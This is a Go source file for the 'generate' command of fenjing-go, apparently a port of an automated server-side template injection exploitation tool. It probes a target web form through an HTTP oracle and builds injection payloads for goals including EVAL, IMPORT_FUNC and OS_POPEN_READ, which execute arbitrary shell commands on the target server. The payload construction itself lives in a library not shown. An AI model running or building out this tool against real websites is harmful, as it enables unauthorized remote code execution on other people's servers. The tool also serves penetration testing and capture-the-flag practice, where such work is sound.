package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/FunctFan/fenjing-go/internal/explain"
	"github.com/FunctFan/fenjing-go/internal/probe"
	"github.com/FunctFan/fenjing-go/internal/ssti"
)

// ledgerPath returns the workspace-relative path generate/crack persist
// their explain ledger to, so a later "fenjing explain" invocation (a
// separate process) can load it back.
func ledgerPath() string {
	ws := workspace
	if ws == "" {
		ws, _ = os.Getwd()
	}
	return filepath.Join(ws, ".fenjing", "ledger.json")
}

var (
	genTargetURL string
	genField     string
	genMethod    string
)

var generateCmd = &cobra.Command{
	Use:   "generate <TYPE> [args...]",
	Short: "run the engine once for a single generation type",
	Long: `generate primes auxiliary variables and selects an outer statement shell
once against --target's oracle, then runs the engine to satisfy TYPE and
prints the resulting payload and whether the target echoes its evaluation
back to the response body.

TYPE is one of the closed generation-type identifiers:
UNSIGNED_INTEGER, INTEGER, STRING, POSITIVE_INT_INDEX, ATTRIBUTE, ITEM,
IMPORT_FUNC, EVAL_FUNC, EVAL, CONFIG, MODULE_OS_POPEN_READ, OS_POPEN_READ,
POSITIVE_CHAR, CHAR, LITERAL.`,
	Args: cobra.MinimumNArgs(1),
	RunE: runGenerate,
}

func init() {
	generateCmd.Flags().StringVar(&genTargetURL, "target", "", "target form URL (required)")
	generateCmd.Flags().StringVar(&genField, "field", "name", "form field believed to carry the injection")
	generateCmd.Flags().StringVar(&genMethod, "method", "POST", "HTTP method used to submit the form")
	generateCmd.MarkFlagRequired("target")
}

func runGenerate(cmd *cobra.Command, args []string) error {
	goal, err := parseGoal(args[0], args[1:])
	if err != nil {
		return err
	}

	ctx := context.Background()
	httpOracle, err := probe.NewHTTPOracle(ctx, nil, genTargetURL, genMethod, genField, nil, timeout, "fenjing-baseline")
	if err != nil {
		return fmt.Errorf("build oracle: %w", err)
	}
	oracle := probe.Memoize(probe.Logged(probe.WithRetry(httpOracle.Oracle(), cfg.Oracle.Retries, cfg.Oracle.VoteThresh)))

	ledger, err := explain.NewLedger()
	if err != nil {
		return fmt.Errorf("open ledger: %w", err)
	}
	defer func() {
		if err := ledger.Save(ledgerPath()); err != nil {
			logger.Warn("failed to save explain ledger", zap.Error(err))
		}
		ledger.Close()
	}()

	asm := ssti.NewAssembler(oracle, ledger.Sink())
	if !asm.Prepare() {
		return fmt.Errorf("preparation failed: target rejects every outer statement shell")
	}

	payload, willEcho, ok := asm.Generate(goal)
	if !ok {
		return fmt.Errorf("generation failed for %s: no rule produced an oracle-accepted fragment", args[0])
	}
	logger.Info("payload generated",
		zap.String("type", args[0]),
		zap.Bool("will_echo", willEcho))

	fmt.Println(payload)
	if willEcho {
		fmt.Println(styleSuccess.Render("will echo: the evaluated result appears in the response body"))
	} else {
		fmt.Println(styleWarn.Render("will not echo: the payload evaluates but its result is not printed"))
	}
	return nil
}

// parseGoal maps a CLI type name and positional arguments onto an ssti.Goal.
// Composite goals that need a receiver object (ATTRIBUTE, ITEM) default the
// receiver to ssti.Config() since that's the one concrete in-template object
// reference simple enough to expose as a CLI convenience; full composite
// goal construction is the library's job (ssti.Goal / ssti.Attribute /
// ssti.ChainedAttributeItem), not the CLI's.
func parseGoal(genType string, args []string) (ssti.Goal, error) {
	switch genType {
	case string(ssti.GenUnsignedInteger):
		n, err := requireInt(args, 0, "UNSIGNED_INTEGER")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.UnsignedInt(n), nil
	case string(ssti.GenInteger):
		n, err := requireInt(args, 0, "INTEGER")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Int(n), nil
	case string(ssti.GenString):
		s, err := requireStr(args, 0, "STRING")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.String(s), nil
	case string(ssti.GenPositiveIntIndex):
		n, err := requireInt(args, 0, "POSITIVE_INT_INDEX")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.PositiveIntIndex(n), nil
	case string(ssti.GenAttribute):
		name, err := requireStr(args, 0, "ATTRIBUTE")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Attribute(ssti.Config(), name), nil
	case string(ssti.GenItem):
		key, err := requireStr(args, 0, "ITEM")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Item(ssti.Config(), ssti.String(key)), nil
	case string(ssti.GenImportFunc):
		mod, err := requireStr(args, 0, "IMPORT_FUNC")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Import(mod), nil
	case string(ssti.GenEvalFunc):
		return ssti.EvalFunc(), nil
	case string(ssti.GenEval):
		expr, err := requireStr(args, 0, "EVAL")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Eval(ssti.String(expr)), nil
	case string(ssti.GenConfig):
		return ssti.Config(), nil
	case string(ssti.GenModuleOSPopenRead):
		cmdStr, err := requireStr(args, 0, "MODULE_OS_POPEN_READ")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.ModuleOSPopenRead(cmdStr), nil
	case string(ssti.GenOSPopenRead):
		cmdStr, err := requireStr(args, 0, "OS_POPEN_READ")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.OSPopenRead(cmdStr), nil
	case string(ssti.GenPositiveChar):
		n, err := requireInt(args, 0, "POSITIVE_CHAR")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.PositiveChar(n), nil
	case string(ssti.GenChar):
		s, err := requireStr(args, 0, "CHAR")
		if err != nil {
			return ssti.Goal{}, err
		}
		if len(s) != 1 {
			return ssti.Goal{}, fmt.Errorf("CHAR requires exactly one character, got %q", s)
		}
		return ssti.Char(s[0]), nil
	case string(ssti.GenLiteral):
		s, err := requireStr(args, 0, "LITERAL")
		if err != nil {
			return ssti.Goal{}, err
		}
		return ssti.Literal(s), nil
	default:
		return ssti.Goal{}, fmt.Errorf("unknown generation type %q", genType)
	}
}

func requireInt(args []string, i int, typeName string) (int, error) {
	s, err := requireStr(args, i, typeName)
	if err != nil {
		return 0, err
	}
	n, err := strconv.Atoi(s)
	if err != nil {
		return 0, fmt.Errorf("%s requires an integer argument, got %q", typeName, s)
	}
	return n, nil
}

func requireStr(args []string, i int, typeName string) (string, error) {
	if i >= len(args) {
		return "", fmt.Errorf("%s requires %d argument(s)", typeName, i+1)
	}
	return args[i], nil
}
